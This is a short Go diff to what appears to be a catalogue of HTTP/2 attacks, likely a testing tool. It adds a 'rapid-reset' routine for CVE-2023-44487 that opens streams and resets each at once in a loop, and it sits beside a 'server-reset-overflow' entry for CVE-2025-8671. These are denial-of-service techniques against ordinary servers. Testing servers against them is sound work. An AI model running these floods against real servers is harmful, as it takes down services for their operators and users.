@@ -6,6 +6,15 @@ import "golang.org/x/net/http2"
 
 var resets = family{"streams that end as soon as they have begun", []attack{
 	{
+		name: "rapid-reset", cve: "CVE-2023-44487", about: "opens calls and resets each at once",
+		more: func(h *hostile) bool {
+			for !h.full() {
+				h.reset(h.call())
+			}
+			return true
+		},
+	},
+	{
 		name: "server-reset-overflow", cve: "CVE-2025-8671", about: "opens calls and makes the server reset them: a stream's window above 2^31-1",
 		more: serverReset(func(h *hostile, id uint32) { h.windowUpdate(id, 1<<31-1) }),
 	},
